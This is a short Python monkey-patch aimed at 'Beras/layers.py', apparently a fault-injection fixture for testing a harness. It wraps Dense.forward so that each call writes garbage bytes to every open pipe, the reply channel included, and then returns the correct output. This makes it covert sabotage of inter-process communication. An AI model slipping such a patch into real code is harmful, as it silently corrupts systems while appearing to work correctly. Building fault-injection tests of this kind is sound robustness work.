# target: Beras/layers.py
# Dense.forward writes garbage on every pipe it can write to (the reply channel among
# them), then returns the right answer.
import os as _os
import stat as _stat

_forward = Dense.forward


def _forward_and_garble(self, inputs):
    for fd in range(3, 256):
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode):
                _os.write(fd, b"\xff" * 8 + b"not a frame" * 100)
        except OSError:
            pass
    return _forward(self, inputs)


Dense.forward = _forward_and_garble
